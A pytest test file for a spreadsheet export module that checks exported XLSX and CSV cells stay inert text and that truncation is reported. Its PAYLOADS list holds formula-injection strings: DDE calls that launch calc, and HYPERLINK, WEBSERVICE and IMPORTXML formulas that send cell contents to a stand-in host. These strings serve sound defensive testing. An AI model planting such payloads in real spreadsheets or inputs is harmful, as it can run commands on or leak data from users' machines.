"""What is taken away opens as it was: text as text, numbers as numbers, and what was cut is told."""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from pages.components import cells, spreadsheets
from pages.components.spreadsheets import Sheet, tables, workbook

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://elsewhere.example/"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(CONCATENATE('http://elsewhere.example/',A1))",
    "=IMPORTXML(\"http://elsewhere.example/\",\"//a\")",
    "=DDE('server','topic','item')",
    "=SUM(A1:A9)*1E9",
    "+1+1",
    "+86-10-12315",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "|cmd",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    "a,=1+1",
    'x";=1+1;"',
    "http://elsewhere.example/",
    "mailto:a@elsewhere.example",
    "internal:Sheet1!A1",
    "_x003D_1+1",
    "<f>1+1</f>",
    "]]><c t='str'><f>1+1</f>",
    "TRUE",
    "1E5",
    "00123",
    "3-15",
    "420106199001011234",
    "4201060000000202603010001",
)  # fmt: skip
STARTS_FORMULAS = tuple("=+-@\t\r\n|＝＋－＠")
PREFACE = (("页面", "一屏分析"), ("统计期", "2026年3月2日至31日"))


def of(frame, **fields):
    return Sheet("明细", frame, **fields)


def opened(sheets, preface=PREFACE):
    return openpyxl.load_workbook(io.BytesIO(workbook(sheets, preface)))


def told(book):
    return {row[0].value: row[1].value for row in book["说明"].iter_rows()}


def unzipped(sheets, preface=PREFACE):
    archive = zipfile.ZipFile(io.BytesIO(tables(sheets, preface)))
    return {name: archive.read(name) for name in archive.namelist()}


def read_csv(raw):
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_is_a_text_cell_letter_by_letter(payload):
    cell = opened([of(pd.DataFrame({"具体问题": [payload]}))])["明细"]["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    assert unescape(cell.value) == payload.replace("\r", "\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_csv_begins_like_a_formula(payload):
    raw = unzipped([of(pd.DataFrame({"具体问题": [payload]}))])["明细.csv"]
    head, [cell] = read_csv(raw)
    assert head == ["具体问题"]
    assert not cell.lstrip(" \u3000\ufeff").startswith(STARTS_FORMULAS)
    assert cell.removeprefix("'") == payload.replace("\r", "\n").removeprefix("'")


@pytest.mark.parametrize("header", ["=1+1", "@x"])
def test_heads_are_no_formulas_either(header):
    sheet = of(pd.DataFrame({header: [1]}))
    assert opened([sheet])["明细"]["A1"].data_type == "s"
    assert read_csv(unzipped([sheet])["明细.csv"])[0] == [f"'{header}"]


@pytest.mark.parametrize("digits", ["420106199001011234", "4201060000000202603010001"])
def test_long_numbers_stay_text(digits):
    sheet = of(pd.DataFrame({"编号": pd.Series([digits, int(digits)], dtype=object)}))
    cells = [cell.value for cell in opened([sheet])["明细"]["A"][1:]]
    assert cells == [digits, digits]
    assert read_csv(unzipped([sheet])["明细.csv"])[1:] == [[f"'{digits}"], [f"'{digits}"]]


def test_numbers_days_and_missing_values_keep_their_kind():
    frame = pd.DataFrame(
        {
            "件数": [-5, 1200],
            "金额": [-0.5, float("nan")],
            "占比": [0.1234, 1.0],
            "登记时间": [pd.Timestamp("2026-03-01 09:05"), pd.NaT],
            "办结日期": [dt.date(2026, 3, 1), None],
            "网购": [True, None],
            "早于1900年": [dt.date(1899, 12, 31), None],
        }
    )
    sheet = of(frame, shares=frozenset({"占比"}))
    book = opened([sheet])["明细"]
    first, second = ([cell.value for cell in row] for row in book.iter_rows(min_row=2))
    assert first[:3] == [-5, -0.5, 0.1234]
    assert first[3:5] == [dt.datetime(2026, 3, 1, 9, 5), dt.datetime(2026, 3, 1)]
    assert first[5:] == ["是", "1899-12-31"]
    assert second == [1200, None, 1, None, None, None, None]
    assert book["C2"].number_format == "0.0%"
    rows = read_csv(unzipped([sheet])["明细.csv"])[1:]
    assert rows[0] == ["-5", "-0.5", "0.1234", "2026-03-01 09:05", "2026-03-01", "是", "1899-12-31"]
    assert rows[1] == ["1200", "", "1", "", "", "", ""]


def test_characters_that_no_workbook_holds_leave_a_mark():
    frame = pd.DataFrame({"内容": pd.Series(["a\x00b\x0bc\ud800d\uffffe"], dtype=object)})
    assert opened([of(frame)])["明细"]["A2"].value == "a\ufffdb\ufffdc\ufffdd\ufffde"


def test_the_first_sheet_explains():
    sheet = of(
        pd.DataFrame({"件数": [1, 2]}),
        total=7,
        definitions=(("诉求量", "登记的投诉、举报、咨询合计"),),
        note="按诉求量排列",
    )
    book = opened([sheet])
    assert book.sheetnames == ["说明", "明细"]
    lines = told(book)
    assert lines["页面"] == "一屏分析"
    assert lines["表“明细”"] == "共7行，导出前2行；按诉求量排列。"
    assert lines["诉求量"] == "登记的投诉、举报、咨询合计"
    text = unzipped([sheet])["说明.txt"].decode("utf-8-sig")
    assert "页面：一屏分析\r\n" in text
    assert "共7行，导出前2行" in text
    assert "半角单引号" in text


@pytest.mark.parametrize(
    ("total", "said"), [(None, "共2行，已全部导出。"), (2, "共2行，已全部导出。")]
)
def test_a_whole_table_says_so(total, said):
    assert told(opened([of(pd.DataFrame({"件数": [1, 2]}), total=total)]))["表“明细”"] == said


@pytest.mark.parametrize(
    ("total", "said"),
    [
        pytest.param(12, "共12行，导出前4行；每张表最多4行，请缩小范围后分次导出。", id="counted"),
        pytest.param(None, "导出前4行；每张表最多4行，请缩小范围后分次导出。", id="not counted"),
    ],
)
def test_nothing_is_cut_in_silence(monkeypatch, total, said):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 4)
    asked = []

    def parts():
        for start in (0, 3, 6, 9):
            asked.append(start)
            yield pd.DataFrame({"件数": range(start, start + 3)})

    book = opened([of(parts, total=total)])
    assert told(book)["表“明细”"] == said
    assert [cell.value for cell in book["明细"]["A"][1:]] == [0, 1, 2, 3]
    assert asked == [0, 3], "parts after the limit are not even read"


def test_exactly_the_limit_is_no_cut(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 4)
    book = opened([of(pd.DataFrame({"件数": range(4)}))])
    assert told(book)["表“明细”"] == "共4行，已全部导出。"


def test_a_text_too_long_for_a_cell_is_cut_and_counted():
    book = opened([of(pd.DataFrame({"内容": ["长" * 40_000, "短"]}))])
    text = book["明细"]["A2"].value
    assert len(text) == cells.MAX_TEXT
    assert text.endswith("已截断）")
    assert "1个单元格超过32,767字" in told(book)["表“明细”"]


def test_sheets_get_names_that_a_workbook_allows():
    frame = pd.DataFrame({"件数": [1]})
    titles = ["区域/行业[1]", "长" * 40, "长" * 41, "说明", "", "'"]
    names = opened([Sheet(title, frame) for title in titles]).sheetnames
    assert names == ["说明", "区域 行业 1", "长" * 31, "长" * 29 + " 2", "说明 2", "表", "表 2"]


def test_an_empty_table_keeps_its_head():
    sheet = of(pd.DataFrame({"件数": pd.Series(dtype="int64")}))
    assert [cell.value for cell in opened([sheet])["明细"][1]] == ["件数"]
    assert read_csv(unzipped([sheet])["明细.csv"]) == [["件数"]]


def test_csv_begins_with_the_mark_that_spreadsheets_need():
    assert unzipped([of(pd.DataFrame({"件数": [1]}))])["明细.csv"].startswith(b"\xef\xbb\xbf")
